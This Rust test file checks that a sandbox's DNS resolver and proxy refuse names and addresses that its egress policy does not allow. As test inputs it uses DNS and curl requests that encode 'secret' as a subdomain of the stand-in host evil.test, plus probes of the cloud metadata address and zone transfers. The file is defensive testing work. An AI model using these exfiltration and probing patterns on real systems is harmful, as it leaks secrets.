//! Names: what isn't allowed is never asked for, and what is leads here first.

use std::net::{SocketAddr, UdpSocket};
use std::time::Duration;

use hickory_proto::op::{Message, MessageType, OpCode, Query, ResponseCode};
use hickory_proto::rr::{Name, RecordType};

use crate::world::World;

const RULES: &str = "[[egress]]\nname = \"up\"\nhosts = [\"up.test\", \"six.test\", \"both.test\"]\n\
                     protocols = [\"http\", \"https\"]\naddresses = [\"203.0.113.0/24\", \"2001:db8::/32\"]\n";

fn ask(server: &str, name: &str, kind: RecordType) -> Message {
    let socket = UdpSocket::bind("[::]:0").unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let mut query = Message::new(7, MessageType::Query, OpCode::Query);
    query.add_query(Query::query(Name::from_ascii(name).unwrap(), kind));
    let server: SocketAddr = server.parse().unwrap();
    let server = match server {
        SocketAddr::V4(v4) => SocketAddr::from((v4.ip().to_ipv6_mapped(), v4.port())),
        v6 => v6,
    };
    socket.send_to(&query.to_vec().unwrap(), server).unwrap();
    let mut bytes = [0; 2048];
    let (length, from) = socket.recv_from(&mut bytes).unwrap();
    assert_eq!(from, server);
    Message::from_vec(&bytes[..length]).unwrap()
}

#[test]
fn no_query_leaves_the_host_for_a_name_that_is_not_allowed() {
    let world = World::new(RULES);
    let kinds = [
        RecordType::A,
        RecordType::AAAA,
        RecordType::TXT,
        RecordType::MX,
        RecordType::SRV,
        RecordType::HTTPS,
        RecordType::ANY,
        RecordType::AXFR,
    ];
    for name in ["c2VjcmV0.evil.test.", "c2VjcmV0.up.test.", "x.onion.", "1.0.0.127.in-addr.arpa."]
    {
        for kind in kinds {
            let answer = ask("198.51.100.53:53", name, kind);
            assert!(answer.answers.is_empty());
            assert_ne!(answer.metadata.response_code, ResponseCode::NoError, "{name} {kind}");
        }
    }
    for kind in kinds {
        ask("127.0.0.1:53", "up.test.", kind);
    }
    let heard = world.curl(&["http://c2VjcmV0.evil.test/"]);
    assert_eq!(heard.status, 6, "curl can't resolve it: {heard:?}");
    let heard = world.curl_proxied(&["http://c2VjcmV0.evil.test/"]);
    assert_eq!(heard.code(), 403);
    assert_eq!(world.seen.names(), Vec::<String>::new());
    assert!(world.events.codes().contains(&"host_not_allowed"));
}

#[test]
fn a_look_up_that_no_policy_is_asked_about_is_refused_and_recorded() {
    let world = World::new(RULES);
    for (name, kind) in [
        ("_acme.evil.test.", RecordType::A),
        ("under_score.up.test.", RecordType::TXT),
        ("up.test.", RecordType::ANY),
        ("up.test.", RecordType::AXFR),
    ] {
        let answer = ask("127.0.0.1:53", name, kind);
        assert_ne!(answer.metadata.response_code, ResponseCode::NoError, "{name} {kind}");
    }
    let codes = world.events.codes();
    let count = |code| codes.iter().filter(|told| **told == code).count();
    // Programs ask again: of one name it is told once in ten seconds.
    assert_eq!((count("not_a_host_name"), count("look_up_not_answered")), (2, 1), "{codes:?}");
}

/// In a quarantine every name has an address and every request is read, and nobody outside is told of it.
#[test]
fn a_name_that_no_rule_has_is_not_resolved_before_a_request_is_allowed() {
    let policy = include_str!("../../../../policies/quarantine.toml");
    let (_, rules) = policy.split_once("extends = \"default\"").unwrap();
    let (rules, _) = rules.split_once("[[expect]]").unwrap();
    let world = World::new(rules);
    for url in ["http://c2VjcmV0.evil.test/a", "https://c2VjcmV0.evil.test/a"] {
        assert_eq!(world.curl(&["-k", url]).code(), 403, "{url}");
        assert_eq!(world.curl_proxied(&["-k", url]).code(), 403, "{url}");
    }
    assert_eq!(world.seen.names(), Vec::<String>::new());
    assert!(world.events.codes().contains(&"path_not_allowed"));
    assert!(!world.events.codes().contains(&"host_not_allowed"));
}

#[test]
fn programs_that_know_of_no_proxy_reach_what_is_allowed() {
    let world = World::new(RULES);
    for url in
        ["http://up.test/ok", "https://up.test/ok", "http://six.test/ok", "http://both.test/ok"]
    {
        // Passed TLS shows the world's own certificate.
        let heard = world.curl(&["-k", url]);
        assert_eq!((heard.code(), heard.body()), (200, "ok"), "{url}: {heard:?}");
    }
    let heard = world.curl(&["-4", "http://up.test/ok"]);
    assert_eq!(heard.code(), 200);
    let heard = world.curl(&["-6", "http://up.test/ok"]);
    assert_eq!(heard.code(), 200);
}

#[test]
fn addresses_that_are_dialled_directly_are_refused_unless_a_rule_names_them() {
    let world = World::new(&format!(
        "{RULES}[[egress]]\nname = \"one\"\nhosts = [\"203.0.113.10\"]\nprotocols = [\"http\"]\naddresses = [\"203.0.113.10/32\"]\n"
    ));
    for address in
        ["169.254.169.254", "10.0.0.1", "203.0.113.20", "127.0.0.1", "9.9.9.9", "198.18.1.1"]
    {
        let heard = world.curl(&[&format!("http://{address}/")]);
        assert_eq!(heard.code(), 403, "{address}: {heard:?}");
        let heard = world.curl(&[&format!("https://{address}/")]);
        assert_eq!(heard.status, 35, "{address}: {heard:?}");
    }
    assert_eq!(world.curl(&["http://203.0.113.10/ok"]).code(), 200);
    let heard = world.curl(&["-H", "Host: up.test", "http://203.0.113.10/ok"]);
    assert_eq!(heard.code(), 421, "{heard:?}");
    assert_eq!(world.seen.connections(), ["203.0.113.10:80"]);
}
